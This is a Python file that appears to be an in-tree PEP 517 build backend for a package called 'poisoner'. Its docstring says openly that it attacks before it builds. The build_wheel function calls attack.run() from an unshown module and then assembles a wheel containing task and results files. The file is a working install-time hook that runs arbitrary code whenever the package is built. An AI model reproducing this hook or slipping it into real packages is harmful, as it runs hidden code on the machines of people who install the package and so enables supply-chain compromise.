"""A build backend in the package's own tree (PEP 517), which attacks before it builds. It needs no other package."""

import os
import zipfile

import attack

FILES = ["poisoner/__init__.py", "poisoner/task.py", "poisoner/results.json"]
INFO = "poisoner-1.0.dist-info/"
METADATA = "Metadata-Version: 2.1\nName: poisoner\nVersion: 1.0\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: poisoner\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    attack.run()
    name = "poisoner-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w", strict_timestamps=False) as wheel:
        for path in FILES:
            wheel.write(path)
        wheel.writestr(INFO + "METADATA", METADATA)
        wheel.writestr(INFO + "WHEEL", WHEEL)
        wheel.writestr(INFO + "RECORD", "".join(path + ",,\n" for path in [*FILES, INFO + "METADATA", INFO + "WHEEL", INFO + "RECORD"]))
    return name
